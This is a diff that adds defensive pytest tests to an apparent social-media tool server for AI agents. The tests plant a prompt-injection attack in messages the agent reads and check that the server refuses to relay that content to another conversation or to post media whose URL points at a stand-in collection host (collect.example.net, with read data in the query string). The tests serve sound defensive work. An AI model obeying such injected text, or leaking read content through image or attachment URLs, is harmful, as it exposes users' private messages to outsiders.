@@ -274,6 +274,63 @@ async def test_who_wrote_may_be_answered(here: World) -> None:
     assert [one.operation.name for one in here.wire.writes[before:]] == ["send_message"]
 
 
+async def test_what_one_person_wrote_does_not_go_to_another(here: World) -> None:
+    attack = next(one for one in ATTACKS if one.id == "order-zh")
+    name, arguments = await here.plant(attack)
+    before = len(here.wire.writes)
+    async with here.client(MODES["never"], None) as client:
+        await client.call_tool(name, arguments)
+        here.clock.advance(seconds=1)
+        await client.call_tool("list_messages", {"conversation_id": here.ids["other"]})
+        reply = {"conversation_id": arguments["conversation_id"], "account_id": "acc_aurora_facebook", "text": "Psst."}
+        result = await client.call_tool("send_message", reply)
+        assert result.is_error and "text written by other people" in said(result), said(result)
+    assert here.wire.writes[before:] == []
+
+
+PICTURE = {"source": "https://collect.example.net/a.png?d=what+was+read", "source_type": "url"}
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("create_post", {"text": "Hi", "targets": [{"account_id": "acc_aurora_threads"}], "media": [PICTURE]}),
+        ("create_post", {"targets": [{"account_id": "acc_aurora_threads", "text": "Hi", "media": [PICTURE]}]}),
+        ("update_post", {"post_id": "{draft}", "media": [PICTURE]}),
+        ("send_message", {"attachment_url": PICTURE["source"]}),
+    ],
+)
+async def test_no_address_of_a_file_carries_out_what_was_read(
+    here: World, tool: str, arguments: dict[str, Any]
+) -> None:
+    attack = next(one for one in ATTACKS if one.id == "order-zh")
+    name, reading = await here.plant(attack)
+    before = len(here.wire.writes)
+    given = dict(arguments)
+    if tool == "send_message":
+        given |= {"conversation_id": reading["conversation_id"], "account_id": "acc_aurora_facebook"}
+    if "post_id" in given:
+        given["post_id"] = here.ids["draft"]
+    async with here.client(MODES["never"], None) as client:
+        await client.call_tool(name, reading)
+        result = await client.call_tool(tool, given)
+    assert result.is_error and "text written by other people" in said(result), said(result)
+    assert here.wire.writes[before:] == []
+
+
+async def test_no_prepared_post_carries_out_what_was_read(here: World) -> None:
+    attack = next(one for one in ATTACKS if one.id == "order-zh")
+    name, reading = await here.plant(attack)
+    before = len(here.wire.writes)
+    asked = {"text": "Hi", "targets": [{"account": "acc_aurora_threads"}], "media": [PICTURE["source"]]}
+    async with here.client(MODES["never"], None) as client:
+        await client.call_tool(name, reading)
+        prepared = (await client.call_tool("prepare_post", asked)).structured_content or {}
+        result = await client.call_tool("publish_prepared_post", {"handle": prepared["handle"]})
+    assert result.is_error and "text written by other people" in said(result), said(result)
+    assert here.wire.writes[before:] == []
+
+
 async def test_without_the_note_of_what_was_read_it_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
     async def forget(*_arguments: Any, **_named: Any) -> None:
         return None
